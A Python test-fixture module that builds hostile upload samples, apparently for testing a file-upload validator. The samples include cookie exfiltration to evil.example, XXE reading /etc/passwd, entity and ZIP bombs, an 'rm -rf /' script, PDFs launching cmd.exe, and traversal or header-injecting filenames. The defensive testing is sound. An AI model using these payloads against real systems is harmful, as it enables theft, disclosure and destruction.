"""Files that somebody might hand in to do harm, each made here: no sample of anybody else's is kept."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from tests.kernel.papers import encrypted, paper, stream

# The test string of EICAR, in two parts so that no scanner takes this file for it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
ENTITIES = b"".join(
    b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10 if level else b"ha") for level in range(9)
)
ENTITY_BOMB = b'<?xml version="1.0"?><!DOCTYPE x [' + ENTITIES + b"]><x>&a8;</x>"
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def picture(kind: str = "PNG", **how: object) -> bytes:
    """Return a picture of noise that is the same each time: what is looked for in it never comes about by chance."""
    out = io.BytesIO()
    Image.frombytes("RGB", (64, 48), random.Random(1).randbytes(64 * 48 * 3)).save(out, kind, **how)
    return out.getvalue()


def huge_png(side: int = 60_000) -> bytes:
    """Return a PNG of a hundred bytes that says it has so many points a side."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")


def packed(**members: bytes) -> bytes:
    """Return a ZIP of these members; two underlines stand for a slash, one at the end of a word for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), data)
    return out.getvalue()


def nested(depth: int = 6) -> bytes:
    """Return a ZIP of ZIPs of zeros."""
    data = bytes(4 * 1024 * 1024)
    for _level in range(depth):
        data = packed(a_zip=data)
    return data


def with_macro() -> bytes:
    """Return the skeleton of an Office file that carries a macro."""
    return packed(word__document_xml=b"<w:document/>", word__vbaProject_bin=b"\xd0\xcf\x11\xe0" + bytes(512))


def deep_pdf(levels: int = 4000) -> bytes:
    return paper(root=b"/Names " + b"<< /A " * levels + b"1" + b" >>" * levels)


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)
_FOLDED = zlib.compress(zlib.compress(bytes(60_000_000), 9), 9)

# Never taken, under whatever name it comes.
REFUSED: dict[str, tuple[str, bytes]] = {
    "nothing": ("空.pdf", b""),
    "a page of HTML": ("a.pdf", SCRIPT),
    "HTML behind a PDF's name and ending": ("plan.html", paper()),
    "SVG with a script": ("a.svg", SVG),
    "SVG under another ending": ("a.png", SVG),
    "GIF that is a JAR": ("a.gif", picture("GIF") + packed(A_class=b"\xca\xfe\xba\xbe")),
    "GIF under another ending": ("a.png", picture("GIF")),
    "a program": ("a.exe", b"MZ\x90\x00" + bytes(400)),
    "a program under another ending": ("a.pdf", b"MZ\x90\x00" + bytes(400)),
    "a shell script": ("a.jpg", b"#!/bin/sh\nrm -rf /\n"),
    "two endings": ("plan.pdf.exe", paper()),
    "the other way round": ("plan.exe.pdf", b"MZ" + bytes(99)),
    "an ending turned round": ("plan\u202efdp.exe", paper()),
    "a PDF that is none": ("plan.pdf", b"%PDF-1.7\n" + bytes(500)),
    "a PDF behind a page of HTML": ("plan.pdf", SCRIPT + paper()),
    "PNG behind JPG's ending": ("a.jpg", picture("PNG")),
    "JPG cut off": ("a.jpg", picture("JPEG")[:700]),
    "PNG cut off": ("a.png", picture("PNG")[:-900]),
    "PNG of 3.6 thousand million points": ("a.png", huge_png()),
    "PDF with a script": ("a.pdf", paper(root=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    "PDF with a script, names written otherwise": (
        "a.pdf",
        paper(root=b"/OpenAction << /S /Java#53cript /J#53 (x) >>"),
    ),
    "PDF that starts a program": ("a.pdf", paper(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "PDF that sends itself": ("a.pdf", paper(page=b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>")),
    "PDF that carries a file": (
        "a.pdf",
        paper(b"<< /F (x.exe) /EF << /F 5 0 R >> >>", stream(b"MZ"), root=b"/Names << /EmbeddedFiles 4 0 R >>"),
    ),
    "PDF with a script, hidden in an object stream": (
        "a.pdf",
        paper(root=b"/OpenAction << /S /JavaScript /JS (x) >>", packed=True),
    ),
    "PDF with a password": ("a.pdf", encrypted(paper(), "secret")),
    "PDF that is encrypted without one": ("a.pdf", encrypted(paper(), "")),
    "PDF nested without end": ("a.pdf", deep_pdf()),
    "ZIP": ("a.zip", packed(a_txt=b"x")),
    "ZIP under another ending": ("a.pdf", packed(a_txt=b"x")),
    "ZIP of ZIPs": ("a.zip", nested()),
    "Office with a macro": ("a.docm", with_macro()),
    "Office with a macro, renamed": ("a.docx", with_macro()),
    "Office with a macro under another ending": ("a.pdf", with_macro()),
    "old Office": ("a.doc", _OLE),
    "entities without end": ("a.xml", ENTITY_BOMB),
    "a file of another house": ("a.xml", OUTSIDE),
    "EICAR": ("a.pdf", EICAR),
    "EICAR as text": ("eicar.com", EICAR),
}
# Taken for what they are: a reader of that kind sees nothing else in them, and they are served as nothing else.
TAKEN: dict[str, tuple[str, bytes, str]] = {
    "PDF with a ZIP behind it": ("a.pdf", paper() + packed(a_class=b"\xca\xfe\xba\xbe"), "application/pdf"),
    "PDF with a page of HTML inside": ("a.pdf", paper(stream(SCRIPT)), "application/pdf"),
    "PDF with a stream that unfolds to 60 MB": (
        "a.pdf",
        paper(stream(_FOLDED, b"/Filter [/FlateDecode /FlateDecode]"), page=b"/Contents 4 0 R"),
        "application/pdf",
    ),
    "PNG with a page of HTML behind it": ("a.png", picture("PNG") + SCRIPT, "image/png"),
    "JPG with a JAR behind it": ("a.jpg", picture("JPEG") + packed(A_class=b"\xca\xfe"), "image/jpeg"),
    "JPG with a script as its comment": ("a.jpg", picture("JPEG", comment=SCRIPT), "image/jpeg"),
    "JPG by the ending's capital letters": ("A.JPEG", picture("JPEG"), "image/jpeg"),
}
# What a name may be, and what is kept of it.
NAMES = {
    "../../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\windows\\system32\\a.pdf": "a.pdf",
    "/etc/cron.d/a.pdf": "a.pdf",
    "a\u202efdp.exe.pdf": "afdp.exe.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie: x=1.pdf",
    "a\x00.exe.pdf": "a.exe.pdf",
    "\u200b.pdf": "pdf",
    "  .pdf": "pdf",
    "甲" * 400 + ".pdf": "甲" * 116 + ".pdf",
}
